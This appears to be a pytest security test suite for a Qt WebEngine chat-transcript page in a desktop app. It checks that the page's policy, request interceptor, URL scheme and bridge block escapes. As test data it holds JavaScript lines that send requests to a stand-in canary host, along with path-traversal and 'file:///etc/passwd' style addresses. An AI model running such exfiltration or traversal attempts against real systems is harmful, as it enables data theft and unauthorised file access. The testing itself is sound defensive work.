"""Each wall around the page on its own, with the others taken away: what runs into it gets no further."""

import json
import os
import re

import pytest
import shiboken6
from PySide6.QtCore import QByteArray, QPoint, Qt, QUrl
from PySide6.QtGui import QGuiApplication
from PySide6.QtTest import QTest
from PySide6.QtWebChannel import QWebChannel
from PySide6.QtWebEngineCore import (
    QWebEngineDownloadRequest,
    QWebEnginePage,
    QWebEngineProfile,
    QWebEngineSettings,
    QWebEngineUrlScheme,
)
from PySide6.QtWebEngineWidgets import QWebEngineView
from PySide6.QtWidgets import QApplication, QWidget

from desktop.app.launcher import _allow_root
from desktop.resources import resource_text
from desktop.ui.transcript import asset_scheme
from desktop.ui.transcript.asset_scheme import PAGE, SCHEME, Asset, data_for_url
from desktop.ui.transcript.page_channel import ACTIONS, MAX_IDS, MAX_NUMBER, PageBridge
from desktop.ui.transcript.web_page import CLICKS_A_SECOND, NO_HOSTS, LockedDownWebPage, PrivateProfile
from tests.cases import cases
from tests.ui.canary_server import running_canary
from tests.ui.hostile.payloads import payloads_for
from tests.ui.hostile.test_text import INSPECT, WATCH, Recorder
from tests.ui.open_page import count_hits_elsewhere
from tests.ui.transcript.test_transcript_view import Driver, answer, driver, page_loop, question, shown_page

__all__ = ["driver", "page_loop", "shown_page"]


@pytest.fixture
def canary():
    with running_canary() as running:
        yield running


class Lab:
    """A bare page on a profile: some walls and not the others."""

    def __init__(self, page, qtbot, pages):
        self.web_page = page
        self._driver = Driver(self, qtbot)
        self._qtbot = qtbot
        self._pages = pages

    def show(self, html):
        self._pages["/raw.html"] = html
        with self._qtbot.waitSignal(self.web_page.loadFinished):
            self.web_page.load(QUrl("footnote-page://page/raw.html"))

    def js(self, code):
        return self._driver.js(code)

    def until(self, code):
        self._qtbot.waitUntil(lambda: bool(self.js(code)))


@pytest.fixture
def owner(qapp):
    widget = QWidget()
    yield widget
    widget.deleteLater()


@pytest.fixture
def profile(owner):
    return PrivateProfile(owner)


@pytest.fixture
def serve(monkeypatch):
    """Have the scheme answer with a page of our own as well."""
    pages = {}
    real = asset_scheme.data_for_url
    monkeypatch.setattr(
        asset_scheme,
        "data_for_url",
        lambda host, path: Asset(b"text/html", pages[path].encode()) if path in pages else real(host, path),
    )
    return pages


@pytest.fixture
def walled_lab(profile, qtbot, serve):
    """A page of the standard kind on our profile: the interceptor and the scheme alone."""
    page = QWebEnginePage(profile)
    yield Lab(page, qtbot, serve)
    shiboken6.delete(page)  # before its profile


def raw(canary):
    """Return the payloads that are HTML, as a page that nobody escaped."""
    texts = [
        text
        for text in payloads_for(canary.host)
        if "<" in text and "<!--" not in text and "</" + "title" not in text
    ]
    leaves_alone = (
        "<frameset",
        "<base",
        "http-equiv",
        "<noscript",
        "<textarea",
        "<style",
        "location=",
        "alert(",
    )
    texts = [text for text in texts if not any(word in text for word in leaves_alone)]
    pieces = "".join(f"<div>{text}</div>" for text in texts).encode(errors="replace").decode()
    return f"<script>window.hits = []; window.hit = () => hits.push(1)</script><body>{pieces}"


# Without any wall, in a process of its own, the payloads do run and do reach the server: silence means something.


def test_without_any_wall_the_payloads_run_and_reach_the_server(canary):
    assert count_hits_elsewhere(raw(canary)) > 5
    assert canary.wait_for_visits(6)


def test_a_web_engine_that_is_cut_off_finds_no_server_whatever_runs(canary):
    assert count_hits_elsewhere(raw(canary), NO_HOSTS) > 5
    assert canary.visits == []


def test_the_web_engine_of_the_window_is_cut_off(profile, canary, qtbot):
    elsewhere = QWebEngineProfile(profile)  # without our interceptor
    page = QWebEnginePage(elsewhere)
    with qtbot.waitSignal(page.loadFinished) as ended:
        page.load(QUrl(f"http://{canary.host}/"))
    assert ended.args == [False]
    assert canary.visits == []
    shiboken6.delete(page)  # before its profile


# The page's own policy


def test_the_policy_alone_stops_what_got_into_the_page_unescaped(driver, canary, qtbot):
    profile = driver.page.web_page.profile()
    recorder = Recorder()
    profile.setUrlRequestInterceptor(recorder)
    try:
        driver.js(WATCH)
        driver.open(question("x"))
        driver.js(
            f"(() => {{ for (const text of {json.dumps(payloads_for(canary.host))}) {{"
            " const e = document.createElement('div'); e.className = 'raw';"
            " e.innerHTML = text; document.querySelector('.bubble').append(e); } return 1 })()"
        )
        driver.js(
            "(() => { for (const e of document.querySelectorAll('.raw *')) for (const name of"
            " ['click', 'focus', 'mouseover', 'toggle', 'error', 'load', 'submit']) e.dispatchEvent(new Event(name));"
            " return 1 })()"
        )
        driver.until("document.querySelectorAll('.raw').length > 200")
        assert driver.js("document.querySelectorAll('.raw img').length") > 10
        outcome = driver.js(INSPECT)
        assert outcome["hits"] == []
        assert outcome["title"] == "Footnote"
        assert driver.page.web_page.url() == QUrl(PAGE)
        driver.js(f"({', '.join(ATTEMPTS).replace('CANARY', canary.host)}, 1)")
        assert driver.js("window.hits") == []
        assert [url.toString() for url in recorder.addresses if url.scheme() != "footnote-page"] == []
        assert canary.visits == []
    finally:
        profile.setUrlRequestInterceptor(profile._interceptor)
        with qtbot.waitSignal(driver.page.ready):  # what was put into the page goes
            driver.page.web_page.load(QUrl(PAGE))


ATTEMPTS = (
    "fetch('http://CANARY/').catch(() => 0)",
    "navigator.sendBeacon('http://CANARY/', 'x')",
    "(() => { try { new WebSocket('ws://CANARY/') } catch { } })()",
    "(() => { try { new EventSource('http://CANARY/') } catch { } })()",
    "(() => { try { new Worker('http://CANARY/') } catch { } })()",
    "(() => { try { const x = new XMLHttpRequest(); x.open('GET', 'http://CANARY/', false); x.send() } catch { } })()",
    "(new Image().src = 'http://CANARY/')",
    "import('http://CANARY/').catch(() => 0)",
    "new FontFace('x', 'url(http://CANARY/)').load().catch(() => 0)",
    "document.body.append(Object.assign(document.createElement('script'), { src: 'http://CANARY/' }))",
    "document.body.append(Object.assign(document.createElement('script'), { textContent: 'hit()' }))",
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://CANARY/' }))",
    "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.hit()</script>' }))",
    "document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://CANARY/' }))",
    "document.body.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://CANARY/' }))",
    "document.body.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: 'http://CANARY/' }))",
    "document.body.append(Object.assign(document.createElement('base'), { href: 'http://CANARY/' }))",
    "(() => { const f = document.createElement('form'); f.action = 'http://CANARY/'; document.body.append(f); f.submit() })()",
    "(document.body.style.background = 'url(http://CANARY/)')",
    "(() => { try { eval('hit()') } catch { } })()",
    "(() => { try { new Function('hit()')() } catch { } })()",
    "(() => { try { setTimeout('hit()') } catch { } })()",
    "document.body.setAttribute('onclick', 'hit()'), document.body.click()",
    "(() => { const a = document.createElement('a'); a.href = 'javascript:hit()'; document.body.append(a); a.click() })()",
)  # fmt: skip


# The interceptor


def test_the_interceptor_alone_lets_nothing_leave_although_scripts_run(walled_lab, canary):
    walled_lab.show(raw(canary))
    walled_lab.until("hits.length > 5")
    for attempt in ATTEMPTS:
        if "iframe" not in attempt and "submit" not in attempt:
            walled_lab.js(f"({attempt.replace('CANARY', canary.host)}, 1)")
    walled_lab.js("(window.outcome = null, fetch('http://x.invalid/').catch(() => window.outcome = 'no'), 1)")
    walled_lab.until("window.outcome === 'no'")
    assert canary.visits == []


# The scheme


def test_only_files_by_name_are_answered():
    assert {name for name in NAMES if data_for_url("page", name) is not None} == {
        "/chat.html", "/chat.css", "/chat.js", "/code.css", "/qwebchannel.js", "chat.html",
    }  # fmt: skip
    assert data_for_url("page", "/chat.html").media_type == b"text/html"
    assert data_for_url("page", "/chat.js").media_type == b"text/javascript"
    assert data_for_url("page", "/chat.css").media_type == b"text/css"
    for host in ("", "pages", "PAGE.", "evil", "page@evil", "127.0.0.1"):
        assert data_for_url(host, "/chat.html") is None


NAMES = (
    "/chat.html", "/chat.css", "/chat.js", "/code.css", "/qwebchannel.js", "chat.html", "", "/", "//", "/.", "/..",
    "/../pyproject.toml", "/../../etc/passwd", "/..%2f..%2fetc/passwd", "/%2e%2e/page/chat.html", "/./chat.html",
    "/chat.html/", "/chat.html/..", "//chat.html", "/chat.html%00", "/chat.html\x00.css", "/CHAT.HTML", "/chat.html.bak",
    "/page/chat.html", "\\chat.html", "/..\\chat.html", "/etc/passwd", "/C:/Windows/win.ini", "/__init__.py",
    "/../translations/phrases_zh_CN.toml", "/chat.html?x", "/chat.html#x", "/__class__", "/chat.html ",
)  # fmt: skip


def test_every_file_of_the_page_is_there():
    """What chat.html asks for is answered, so that nothing else ever has to be."""
    page = data_for_url("page", "/chat.html").data.decode()
    asked = [part.split('"')[0] for part in page.split("footnote-page://page")[1:]]
    assert asked == ["/page.css", "/page.js"]
    listed = re.findall(r"footnote-page://page/([\w.]+)", resource_text("page/chat.html"))
    assert len(listed) >= 14
    for name in listed:
        together = data_for_url("page", "/page.css" if name.endswith("css") else "/page.js")
        assert data_for_url("page", name).data in together.data


def test_the_scheme_has_no_privileges(profile):
    scheme = QWebEngineUrlScheme.schemeByName(QByteArray(SCHEME))
    assert scheme.flags() == QWebEngineUrlScheme.Flag.SecureScheme


def test_addresses_of_the_scheme_that_are_none_of_its_files_fail(walled_lab):
    walled_lab.show("<p>x")
    for address in (
        "footnote-page://page/../x",
        "footnote-page://page/%2e%2e/x",
        "footnote-page://other/chat.html",
    ):
        walled_lab.js(
            "(window.outcome = null, (() => { const s = document.createElement('script');"
            f" s.src = '{address}'; s.onload = () => window.outcome = 'yes'; s.onerror = () => window.outcome = 'no';"
            " document.body.append(s) })(), 1)"
        )
        walled_lab.until("window.outcome !== null")
        assert walled_lab.js("window.outcome") == "no"


def test_the_page_carries_its_policy():
    page = data_for_url("page", "/chat.html").data.decode()
    policy = page.split('content="')[1].split('"')[0]
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert rules["default-src"] == "'none'"
    assert rules["base-uri"] == "'none'"
    assert rules["form-action"] == "'none'"
    assert set(" ".join(rules.values()).split()) <= {"'none'", "footnote-page:", "data:"}
    assert page.index("Content-Security-Policy") < page.index("<script")


# Going elsewhere


@cases(
    "address",
    [
        "http://CANARY/",
        "https://CANARY/",
        "file:///etc/passwd",
        "data:text/html,<script>1</script>",
        "blob:footnote-page://page/1",
        "about:blank",
        "view-source:footnote-page://page/chat.html",
        "footnote-page://page/chat.css",
        "footnote-page://page/chat.html?x",
        "javascript:document.title='x'",
        "mailto:a@b.example",
        "ms-msdt:/id",
    ],
)
def test_no_script_leads_the_page_elsewhere(driver, canary, qtbot, address):
    address = address.replace("CANARY", canary.host)
    left, followed = [], []
    driver.page.web_page.urlChanged.connect(left.append)
    driver.page.link_followed.connect(followed.append)
    driver.js(f"(location.assign({json.dumps(address)}), 1)")
    driver.js(f"(window.open({json.dumps(address)}), 1)")
    driver.js(
        "(() => { const a = Object.assign(document.createElement('a'), { target: '_blank',"
        f" href: {json.dumps(address)} }}); a.rel = 'opener'; document.body.append(a);"
        " if (!/^(http|mailto)/.test(a.href)) { a.dispatchEvent(new MouseEvent('click', { ctrlKey: true })); a.click() }"
        " a.remove(); return 1 })()"
    )
    driver.until(
        "document.title === 'Footnote' && typeof footnote === 'object'"
    )  # also after a way there and back
    driver.js("(history.pushState(0, '', '#x'), history.back(), 1)")
    driver.until("document.title === 'Footnote' && typeof footnote === 'object'")
    qtbot.waitUntil(lambda: driver.page.web_page.url().toString().partition("#")[0] == PAGE)
    driver.page.web_page.urlChanged.disconnect(left.append)
    driver.page.link_followed.disconnect(followed.append)
    # What Python lets a script do counts as a person's click: it may be handed out if it is fit for that.
    assert followed == [] or (set(followed) == {address} and address.startswith("http"))
    assert {url.toString().partition("#")[0] for url in left} <= {PAGE, "about:blank"}
    assert canary.visits == []
    assert [
        type(window) for window in QApplication.topLevelWidgets() if isinstance(window, QWebEngineView)
    ] == []


def test_python_itself_cannot_lead_the_page_elsewhere(driver, canary, qtbot):
    page = driver.page.web_page
    with qtbot.waitSignal(page.loadFinished) as finished:
        page.load(QUrl(f"http://{canary.host}/"))
    assert finished.args == [False]
    assert page.url() == QUrl(PAGE)
    assert canary.visits == []


# Taking and giving


def test_downloads_are_cancelled(driver, qtbot, tmp_path):
    profile = driver.page.web_page.profile()
    profile.setDownloadPath(str(tmp_path))
    requests = []
    profile.downloadRequested.connect(requests.append)
    driver.page.web_page.download(QUrl("footnote-page://page/chat.css"), "x.css")
    qtbot.waitUntil(lambda: bool(requests))
    qtbot.waitUntil(lambda: requests[0].state() is QWebEngineDownloadRequest.DownloadState.DownloadCancelled)
    profile.downloadRequested.disconnect(requests.append)
    assert list(tmp_path.iterdir()) == []


ASKING = {
    "location": "navigator.geolocation.getCurrentPosition(() => done('yes'), () => done('no'))",
    "notifications": "Notification.requestPermission().then(word => done(word === 'granted' ? 'yes' : 'no'))",
    "clipboard": "navigator.clipboard.readText().then(() => done('yes'), () => done('no'))",
    "camera": "navigator.mediaDevices.getUserMedia({ video: true }).then(() => done('yes'), () => done('no'))",
    "microphone": "navigator.mediaDevices.getUserMedia({ audio: true }).then(() => done('yes'), () => done('no'))",
    "screen": "navigator.mediaDevices.getDisplayMedia({ video: true }).then(() => done('yes'), () => done('no'))",
    "fonts": "window.queryLocalFonts ? queryLocalFonts().then(f => done(f.length ? 'yes' : 'no'), () => done('no')) : done('no')",
    "storage": "(() => { try { localStorage.x = 1; done('yes') } catch { done('no') } })()",
    "cookies": "(document.cookie = 'a=b', done(document.cookie ? 'yes' : 'no'))",
    "question": "done(confirm('x') ? 'yes' : 'no')",
    "prompt": "done(prompt('x') ? 'yes' : 'no')",
}  # fmt: skip


@cases("what", ASKING)
def test_the_page_is_given_nothing_that_it_may_ask_for(driver, what):
    attempt = ASKING[what]
    driver.js(
        "(window.outcome = null, window.done = (word) => window.outcome = word,"
        f" (() => {{ try {{ {attempt} }} catch {{ done('no') }} }})(), 1)"
    )
    driver.until("window.outcome !== null")
    assert driver.js("window.outcome") == "no"


def test_no_file_is_ever_chosen(driver):
    page = driver.page.web_page
    assert page.chooseFiles(QWebEnginePage.FileSelectionMode.FileSelectOpen, [], []) == []


def test_the_profile_keeps_nothing(profile):
    assert profile.isOffTheRecord()
    assert profile.persistentCookiesPolicy() is QWebEngineProfile.PersistentCookiesPolicy.NoPersistentCookies
    assert profile.httpCacheType() is QWebEngineProfile.HttpCacheType.NoCache


def test_what_scripts_may_is_switched_off(profile):
    attributes = QWebEngineSettings.WebAttribute
    settings = LockedDownWebPage(profile, profile).settings()
    for attribute in (
        attributes.LocalContentCanAccessRemoteUrls,
        attributes.LocalContentCanAccessFileUrls,
        attributes.LocalStorageEnabled,
        attributes.JavascriptCanAccessClipboard,
        attributes.JavascriptCanPaste,
        attributes.JavascriptCanOpenWindows,
        attributes.AllowRunningInsecureContent,
        attributes.PluginsEnabled,
        attributes.DnsPrefetchEnabled,
        attributes.HyperlinkAuditingEnabled,
        attributes.NavigateOnDropEnabled,
        attributes.ScreenCaptureEnabled,
    ):
        assert not settings.testAttribute(attribute), attribute


def test_a_click_on_a_copy_button_copies_all_the_same(driver, qtbot):
    driver.open(question(), answer("```python\nx = 1\n```"))
    driver.until("!!document.querySelector('.copy-code')")
    QGuiApplication.clipboard().setText("before")
    driver.focus()
    driver.js("(document.querySelector('.copy-code').style.opacity = 1, 1)")
    middle = (
        "(() => { const b = document.querySelector('.copy-code').getBoundingClientRect();"
        " return [b.x + b.width / 2, b.y + b.height / 2] })()"
    )
    driver.until(f"!!document.elementFromPoint(...{middle})?.closest('.copy-code')")
    box = driver.js(middle)
    inner = driver.page.findChild(QWebEngineView).focusProxy()
    QTest.mouseClick(inner, Qt.MouseButton.LeftButton, pos=QPoint(round(box[0]), round(box[1])))
    qtbot.waitUntil(lambda: QGuiApplication.clipboard().text().strip() == "x = 1")


def test_only_root_who_could_not_start_otherwise_gives_up_the_sandbox(monkeypatch):
    monkeypatch.delenv("QTWEBENGINE_DISABLE_SANDBOX", raising=False)
    monkeypatch.setattr(os, "geteuid", lambda: 1000, raising=False)
    _allow_root()
    assert "QTWEBENGINE_DISABLE_SANDBOX" not in os.environ
    assert "no-sandbox" not in os.environ.get("QTWEBENGINE_CHROMIUM_FLAGS", "")


# The bridge


class Reports:
    """Everything that a bridge hands on."""

    def __init__(self, bridge):
        self.heard = []
        for name in SIGNALS:
            getattr(bridge, name).connect(lambda *what, name=name: self.heard.append((name, *what)))


ID = re.compile(r"[\w.-]*")
SIGNALS = (
    "loaded", "messages_asked", "messages_far", "action_asked", "source_asked", "original_asked", "source_copy_asked", "source_add_asked", "card_asked", "mail_asked",
    "example_asked", "menu_asked", "research_steered",
)  # fmt: skip
SLOTS = {
    "page_ready", "drawn", "menu_wanted", "messages_wanted", "messages_unwanted", "act", "source_wanted", "original_wanted", "source_copy_wanted", "source_add_wanted", "card_wanted",
    "mail_wanted", "card_shown", "example_wanted", "steer", "start_plan", "start_outline",
    "drawing_wanted", "drawing_unwanted", "drawing_menu_wanted",
}  # fmt: skip


@pytest.fixture
def bridge(qapp):
    bridge = PageBridge()
    bridge.reports = Reports(bridge)
    return bridge


def test_the_bridge_hands_on_what_is_in_bounds(bridge):
    bridge.act("a-1", "retry")
    bridge.source_wanted(1)
    bridge.original_wanted(2)
    bridge.source_copy_wanted(MAX_NUMBER)
    bridge.source_add_wanted(MAX_NUMBER)
    bridge.card_wanted("a1", 2, 0)
    bridge.mail_wanted("a1", 0)
    bridge.example_wanted(2)
    bridge.menu_wanted("a1", "more", 10.4, 20)
    bridge.messages_wanted(["a1", "b2"])
    bridge.messages_unwanted(["c3"])
    assert bridge.reports.heard == [
        ("action_asked", "a-1", "retry"),
        ("source_asked", 1),
        ("original_asked", 2),
        ("source_copy_asked", MAX_NUMBER),
        ("source_add_asked", MAX_NUMBER),
        ("card_asked", "a1", 2, 0),
        ("mail_asked", "a1", 0),
        ("example_asked", 2),
        ("menu_asked", "a1", "more", 10, 20),
        ("messages_asked", ["a1", "b2"]),
        ("messages_far", ["c3"]),
    ]


@cases("number", [0, -1, -(2**31), MAX_NUMBER + 1, 2**31 - 1])
def test_the_bridge_drops_numbers_out_of_bounds(bridge, number):
    bridge.source_wanted(number)
    bridge.original_wanted(number)
    bridge.source_copy_wanted(number)
    bridge.source_add_wanted(number)
    bridge.card_wanted("a1", number, 0)
    for index in {number} - {0}:
        bridge.card_wanted("a1", 1, index)
        bridge.mail_wanted("a1", index)
        bridge.example_wanted(index)
    assert bridge.reports.heard == []


@cases(
    "name",
    ["", " ", "a b", "../a", "a/b", "<img>", "a'", 'a"', "a\x00", "a\n", "\ud800", "x" * 65, "x" * 10**6],
)
def test_the_bridge_drops_what_is_no_id(bridge, name):
    bridge.act(name, "retry")
    bridge.card_wanted(name, 1, 0)
    bridge.mail_wanted(name, 0)
    bridge.messages_wanted([name, 1, None, {}, []])
    bridge.messages_unwanted([name, 1, None, {}, []])
    assert bridge.reports.heard == []


@cases("place", [-1.0, 1e9, float("nan"), float("inf")])
def test_the_bridge_drops_places_that_no_view_has(bridge, place):
    bridge.menu_wanted("a1", "more", place, 1.0)
    bridge.menu_wanted("a1", "more", 1.0, place)
    bridge.menu_wanted("a 1", "more", 1.0, 1.0)
    bridge.menu_wanted("a1", "delete", 1.0, 1.0)
    assert bridge.reports.heard == []


@cases("action", ["", "example", "delete", "COPY", "copy ", "__class__", "open", "javascript:hit()"])
def test_the_bridge_drops_actions_that_are_not_in_the_table(bridge, action):
    assert action not in ACTIONS
    bridge.act("a1", action)
    assert bridge.reports.heard == []


def test_the_bridge_cuts_lists(bridge):
    bridge.messages_wanted(["a1"] * 10**6)
    assert bridge.reports.heard == [("messages_asked", ["a1"] * MAX_IDS)]


def test_a_million_calls_do_next_to_nothing(bridge):
    for number in range(1, 1_000_001):
        bridge.source_wanted(number)
    assert CLICKS_A_SECOND <= len(bridge.reports.heard) < 100 * CLICKS_A_SECOND
    heard = len(bridge.reports.heard)
    for _ in range(20_000):
        bridge.act("a1", "retry")
        bridge.card_wanted("a1", 1, 1)
        bridge.page_ready()
        bridge.example_wanted(1)
    assert len(bridge.reports.heard) - heard < 5_000


@pytest.fixture
def channelled(walled_lab, bridge):
    """A page in which a script has the bridge."""
    channel = QWebChannel(walled_lab.web_page)
    channel.registerObject("bridge", bridge)
    walled_lab.web_page.setWebChannel(channel)
    walled_lab.show(
        "<script src=footnote-page://page/qwebchannel.js></script>"
        "<script>new QWebChannel(qt.webChannelTransport, c => window.bridge = c.objects.bridge)</script>"
    )
    walled_lab.until("!!window.bridge")
    return walled_lab


def test_a_script_finds_nothing_but_the_slots(channelled):
    functions = channelled.js("Object.keys(bridge).filter(name => typeof bridge[name] === 'function')")
    own = {name.partition("(")[0] for name in functions if not name.startswith("__")}
    # Every QObject shows `deleteLater`, and Qt cannot hide it: at worst the page has dead buttons.
    assert own - {"unwrapQObject", "unwrapProperties", "propertyUpdate", "signalEmitted"} == SLOTS | {
        "deleteLater"
    }
    assert (
        channelled.js("Object.keys(bridge).filter(name => /url|path|key|token|setting|file/i.test(name))")
        == []
    )


WEIRD = (
    "1e308", "-1e308", "NaN", "Infinity", "2 ** 53", "2 ** 32 + 1", "-1", "0", "1.5e300", "null", "undefined", "''",
    "'1; drop'", "[]", "[1]", "({})", "true", "'x'.repeat(1e5)", "'\\ud800'", "'__proto__'", "Symbol.iterator.toString()",
)  # fmt: skip


def test_a_script_that_calls_with_anything_changes_nothing(channelled, bridge, qtbot):
    channelled.js(
        f"(() => {{ for (const value of [{', '.join(WEIRD)}]) for (const name of {sorted(SLOTS - {'page_ready', 'drawn'})})"
        " for (const count of [0, 1, 2, 4]) try { bridge[name](...Array(count).fill(value)) } catch { }; return 1 })()"
    )

    def is_heard():
        # All that may use up the clicks of a second: it is asked again until one is left.
        channelled.js("(bridge.source_wanted(7), 1)")
        return ("source_asked", 7) in bridge.reports.heard

    qtbot.waitUntil(is_heard)
    for _name, *what in bridge.reports.heard:
        for one in what:
            assert 0 <= one <= MAX_NUMBER if isinstance(one, int) else ID.fullmatch("".join(one))
